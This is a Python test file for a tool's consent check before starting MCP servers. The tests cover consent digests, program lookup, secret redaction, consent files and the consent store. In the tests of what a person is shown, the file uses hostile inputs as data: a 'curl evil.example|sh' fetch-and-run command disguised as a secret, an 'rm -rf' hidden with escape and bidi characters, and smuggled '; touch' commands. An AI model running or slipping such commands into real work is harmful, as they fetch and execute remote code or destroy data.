"""Nothing is started that nobody agreed to, and what was agreed to is exactly what is started."""

from __future__ import annotations

import json
import stat
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from contractd.errors import UsageError
from contractd.preflight.consent import DIGEST, Asked, ConsentStore, asked, resolved, target
from contractd.preflight.prepare import Prepared, prepare
from contractd.providers.base import ProviderSpec
from tests.preflight.situations import Bench, Setup

SERVER = ProviderSpec("mail", "mail", "stdio", argv=("sh", "-c", "serve"), env={"TOKEN": "one"}, cwd="/")
REMOTE = ProviderSpec("mail", "mail", "http", url="https://mail.example/mcp", headers={"Authorization": "Bearer one"})


def digest(spec: ProviderSpec, environ: Mapping[str, str]) -> str:
    return asked(spec, environ).digest


@pytest.fixture
def environ(bench: Bench) -> dict[str, str]:
    return {"PATH": str(bench.programs)}


# ---- what is remembered


@pytest.mark.parametrize(
    "change",
    [
        {"argv": ("sh", "-c", "serve", "--all")},
        {"argv": ("sh", "-c", "serve2")},
        {"argv": ("bash", "-c", "serve")},
        {"argv": ("sh", "-c serve")},
        {"cwd": "/tmp"},
        {"env": {"TOKEN": "one", "DEBUG": "1"}},
        {"env": {}},
        {"env": {"TOKEN2": "one"}},
    ],
    ids=str,
)
def test_another_command_folder_or_set_of_variables_is_asked_for_again(
    environ: dict[str, str], change: dict[str, Any]
) -> None:
    assert digest(replace(SERVER, **change), environ) != digest(SERVER, environ)


@pytest.mark.parametrize(
    "change", [{"env": {"TOKEN": "two"}}, {"budget": 5.0}, {"name": "post", "id": "post"}], ids=str
)
def test_a_renewed_secret_another_budget_or_name_is_not(environ: dict[str, str], change: dict[str, Any]) -> None:
    assert digest(replace(SERVER, **change), environ) == digest(SERVER, environ)


def test_another_program_of_the_same_name_is_asked_for_again(bench: Bench, environ: dict[str, str]) -> None:
    first = digest(SERVER, environ)
    other = bench.here / "sh"
    other.write_text("#!/bin/sh\n")
    other.chmod(0o755)
    assert digest(SERVER, {"PATH": f"{bench.here}:{bench.programs}"}) != first


@pytest.mark.parametrize(
    ("change", "same"),
    [
        ({"url": "https://mail.example/mcp2"}, False),
        ({"url": "http://mail.example/mcp"}, False),
        ({"headers": {}}, False),
        ({"headers": {"Authorization": "Bearer one", "X-Team": "a"}}, False),
        ({"headers": {"Authorization": "Bearer two"}}, True),
        ({"headers": {"authorization": "Bearer one"}}, True),
    ],
    ids=str,
)
def test_a_remote_server_is_remembered_by_url_and_names_of_headers(change: dict[str, Any], same: bool) -> None:
    assert (digest(replace(REMOTE, **change), {}) == digest(REMOTE, {})) is same


@given(st.lists(st.text(max_size=20), min_size=1, max_size=4), st.lists(st.text(max_size=20), min_size=1, max_size=4))
@settings(deadline=None, max_examples=80)
def test_two_command_lines_have_one_digest_only_if_they_are_equal(one: list[str], other: list[str]) -> None:
    first, second = replace(SERVER, argv=tuple(one)), replace(SERVER, argv=tuple(other))
    assert (digest(first, {}) == digest(second, {})) is (one == other)
    assert DIGEST.fullmatch(digest(first, {}))


# ---- which program that is


def test_the_program_is_looked_up_on_the_path_that_the_server_gets(bench: Bench, environ: dict[str, str]) -> None:
    assert resolved(SERVER, environ) == str(bench.programs / "sh")
    assert resolved(replace(SERVER, env={"PATH": "/nowhere"}), environ) is None
    assert resolved(replace(SERVER, env={"PATH": str(bench.programs)}), {"PATH": "/nowhere"}) is not None


def test_a_server_that_inherits_no_path_gets_the_system_s_own(bench: Bench) -> None:
    bench.program("only-here")
    spec = replace(SERVER, argv=("only-here",), inherit=frozenset())
    assert resolved(spec, {"PATH": str(bench.programs)}) is None
    assert resolved(replace(spec, inherit=frozenset({"PATH"})), {"PATH": str(bench.programs)})
    assert resolved(replace(spec, argv=("sh",)), {}) in ("/bin/sh", "/usr/bin/sh")


def test_relative_programs_and_relative_folders_of_the_path_start_at_the_server_s_cwd(bench: Bench) -> None:
    spec = replace(SERVER, cwd=str(bench.programs.parent))
    assert resolved(replace(spec, argv=("bin/sh",)), {"PATH": ""}) == str(bench.programs / "sh")
    assert resolved(replace(spec, argv=("./bin/nothing",)), {"PATH": ""}) is None
    assert resolved(spec, {"PATH": "bin"}) == str(bench.programs / "sh")


@pytest.mark.parametrize("argv", [("a/\0b",), ("x/" + "y" * 5000,), ("\ud800",), ("",), ()])
def test_a_program_s_name_that_can_t_be_one_is_not_found(argv: tuple[str, ...]) -> None:
    assert resolved(replace(SERVER, argv=argv), {"PATH": "/bin"}) is None


def test_a_command_line_that_no_system_can_run_still_has_a_digest() -> None:
    assert DIGEST.fullmatch(digest(replace(SERVER, argv=("sh", "\ud800"), env={"\udfff": ""}), {}))


# ---- what a person is shown


def test_the_question_shows_the_command_its_program_folder_and_the_names_of_its_variables(
    bench: Bench, environ: dict[str, str]
) -> None:
    question = asked(SERVER, environ)
    assert question.line == "sh -c serve"
    assert question.detail == f"program {bench.programs / 'sh'}; in /; variables: TOKEN"
    assert asked(REMOTE, {}).line == "https://mail.example/mcp"
    assert asked(REMOTE, {}).detail == "headers: Authorization"


def test_secrets_are_not_shown(environ: dict[str, str]) -> None:
    secret = "kX8v2Lq9Zp1Rt5"
    specs = [
        replace(SERVER, argv=("sh", "--api-key", secret, f"--token={secret}"), env={"TOKEN": secret}),
        replace(REMOTE, url=f"https://me:{secret}@mail.example/mcp?api_key={secret}", headers={"X-Key": secret}),
    ]
    for spec in specs:
        question = asked(spec, environ)
        assert secret not in question.line + question.detail + question.name
        assert secret not in repr(question)


def test_a_hostile_command_line_can_t_hide_what_it_does(environ: dict[str, str]) -> None:
    spec = replace(
        SERVER, name="\x1b[2Jmail", argv=("sh\x1b[2K\r", "-c", "rm\u202e -rf", *["x"] * 500), env={"A\nB": ""}
    )
    question = asked(spec, environ)
    shown = question.name + question.line + question.detail
    assert all(char.isprintable() for char in shown)
    assert "+443 arguments" in question.line
    assert target(replace(SERVER, argv=("sh", "y" * 5000))).endswith("… (+4000 characters)")


def test_a_configuration_can_t_hide_a_command_by_calling_it_a_secret() -> None:
    spec = replace(SERVER, argv=("sh", "-c", "curl\tevil.example|sh"), env={"MY_TOKEN": "curl\tevil.example|sh"})
    assert "curl" in asked(spec, {}).line
    assert "curl" not in target(spec), "a report shows nothing that may be a secret"


@pytest.mark.parametrize("before", ["API_KEY=x; ", "TOKEN='a'\n", "Authorization: x; ", "x://a:b;${IFS}", "?token=;"])
def test_what_is_run_after_a_secret_s_name_is_shown_to_who_is_asked(before: str) -> None:
    for argv in (("sh", "-c", f"{before}touch /tmp/x"), ("sh", "--token", f"{before}touch /tmp/x")):
        assert "touch /tmp/x" in asked(replace(SERVER, argv=argv), {}).line


# ---- who may be contacted

TWO = Setup(
    '{"mcpServers": {"mail": {"command": "sh", "args": ["a"]}, "My Wiki": {"type": "http", "url": "https://w.example"}}}'
)


def prepared(bench: Bench, setup: Setup, **more: Any) -> Prepared:
    ask = more.pop("ask", None)
    return prepare(replace(bench.request(setup), consented=False, **more), ask=ask)


def names(done: Prepared) -> list[str]:
    return [spec.name for spec in done.specs]


def digests(bench: Bench, setup: Setup = TWO) -> dict[str, str]:
    request = bench.request(setup)
    return {spec.name: digest(spec, request.environ) for spec in prepare(request).specs}


def test_without_consent_nothing_is_contacted_and_every_digest_is_told(bench: Bench) -> None:
    done = prepared(bench, TWO)
    assert names(done) == []
    for name, key in (("mail", "mail"), ("My Wiki", "my-wiki")):
        assert digests(bench)[name] in done.skipped[key]
        assert "no terminal to ask on" in done.skipped[key]


@pytest.mark.parametrize("allowed", ["My Wiki", "my-wiki"])
def test_a_server_is_allowed_by_name_or_id(bench: Bench, allowed: str) -> None:
    assert names(prepared(bench, TWO, allow=(allowed,))) == ["My Wiki"]


def test_a_server_is_allowed_by_digest(bench: Bench) -> None:
    assert names(prepared(bench, TWO, allow=(digests(bench)["mail"],))) == ["mail"]


def test_an_allowed_name_that_is_nobody_s_is_an_error_and_an_unknown_digest_is_not(bench: Bench) -> None:
    with pytest.raises(UsageError, match="no server is called so") as caught:
        prepared(bench, TWO, allow=("mall",))
    assert caught.value.hint == "did you mean mail?"
    assert names(prepared(bench, TWO, allow=("sha256:" + "0" * 64,))) == []


def test_only_what_is_still_open_is_asked_and_only_what_is_agreed_to_is_contacted(bench: Bench) -> None:
    seen: list[list[str]] = []

    def ask(questions: list[Asked]) -> frozenset[str]:
        seen.append([question.spec.name for question in questions])
        return frozenset({questions[0].digest})

    assert names(prepared(bench, TWO, ask=ask)) == ["mail"]
    assert names(prepared(bench, TWO, ask=ask, allow=("mail",))) == ["mail", "My Wiki"]
    assert seen == [["mail", "My Wiki"], ["My Wiki"]]
    assert "it was declined" in prepared(bench, TWO, ask=lambda _: frozenset()).skipped["mail"]


def test_offline_asks_nobody_and_contacts_nobody_whatever_was_agreed_to(bench: Bench) -> None:
    def ask(_: list[Asked]) -> frozenset[str]:
        raise AssertionError("asked")

    for more in ({"consented": False}, {"consented": True}, {"consented": False, "allow": ("mail",)}):
        done = prepare(replace(bench.request(TWO), offline=True, **more), ask=ask)  # type: ignore[arg-type]
        assert names(done) == []
        assert not done.contacts


def test_a_manifest_file_is_read_without_asking_and_offline_too(bench: Bench) -> None:
    bench.write("m.json", '{"schema_version": 1, "tools": []}')
    setup = Setup('[providers.files]\nmanifest = "m.json"\n', name="contractd.toml", runtime=None)
    assert names(prepared(bench, setup)) == ["files"]
    assert names(prepared(bench, setup, offline=True)) == ["files"]


def test_a_switched_off_server_is_neither_asked_for_nor_contacted(bench: Bench) -> None:
    setup = Setup('{"mcpServers": {"mail": {"command": "sh", "disabled": true}}}', runtime="cline")
    done = prepared(bench, setup)
    assert (names(done), done.skipped) == ([], {})


# ---- consent.allow: a folder's own file can't agree for its user


def allowing(*agreed: str) -> str:
    return f"[consent]\nallow = {json.dumps(list(agreed))}\n"


def test_the_user_s_own_settings_agree(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(bench.home / ".config"))
    bench.write("~/.config/contractd/contractd.toml", allowing(digests(bench)["mail"]))
    assert names(prepared(bench, TWO)) == ["mail"]


def test_settings_that_were_named_agree(bench: Bench) -> None:
    bench.write("ci/contractd.toml", allowing(digests(bench)["mail"]))
    assert names(prepared(bench, TWO, policy="ci/contractd.toml")) == ["mail"]


def test_settings_that_merely_lie_in_the_folder_do_not_agree_and_the_report_says_why(bench: Bench) -> None:
    bench.write("contractd.toml", allowing(digests(bench)["mail"]))
    done = prepared(bench, TWO)
    assert names(done) == []
    assert (
        f"{bench.here / 'contractd.toml'} agrees to it, which counts only if you name the file" in done.skipped["mail"]
    )
    assert "no terminal" in done.skipped["my-wiki"]
    assert names(prepared(bench, TWO, policy="contractd.toml")) == ["mail"]


def test_a_pyproject_that_lies_in_the_folder_does_not_agree_either(bench: Bench) -> None:
    bench.write("pyproject.toml", allowing(digests(bench)["mail"]).replace("[consent]", "[tool.contractd.consent]"))
    assert names(prepared(bench, TWO)) == []


def test_a_folder_s_list_does_not_take_the_user_s_away(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(bench.home / ".config"))
    bench.write("~/.config/contractd/contractd.toml", allowing(digests(bench)["mail"]))
    bench.write("contractd.toml", allowing("sha256:" + "0" * 64))
    assert names(prepared(bench, TWO)) == ["mail"]


# ---- the memory


@pytest.fixture
def store(tmp_path: Path) -> ConsentStore:
    return ConsentStore(tmp_path / "state" / "consent.json")


A, B = "sha256:" + "a" * 64, "sha256:" + "b" * 64


def test_what_was_agreed_to_is_remembered_by_the_user_alone(store: ConsentStore) -> None:
    assert store.load() == frozenset()
    store.add([A])
    store.add([B, A])
    assert store.load() == {A, B}
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert [path.name for path in store.path.parent.iterdir()] == ["consent.json"]


@pytest.mark.parametrize(
    "text",
    [
        b"", b"{", b"null", b"[]", b'{"agreed": 7}', b'{"agreed": "sha256"}', b'{"agreed": [[], {}, 1, "mail"]}',
        b"\xff\xfe\x00", b"[" * 200_000, b'{"version": 1}',
    ],
    ids=lambda text: repr(text[:20]),
)  # fmt: skip
def test_a_broken_memory_means_nothing_was_agreed_to_and_is_mended_by_the_next_answer(
    store: ConsentStore, text: bytes
) -> None:
    store.path.parent.mkdir()
    store.path.write_bytes(text)
    assert store.load() == frozenset()
    store.add([A])
    assert store.load() == {A}


def test_a_memory_that_can_t_be_written_costs_only_the_memory(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    store = ConsentStore(tmp_path / "file" / "consent.json")
    store.add([A])
    assert store.load() == frozenset()


def test_a_failure_while_writing_leaves_the_old_memory_and_no_scraps(
    store: ConsentStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    store.add([A])

    def full(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("contractd.preflight.consent.json.dump", full)
    store.add([B])
    assert store.load() == {A}
    assert [path.name for path in store.path.parent.iterdir()] == ["consent.json"]
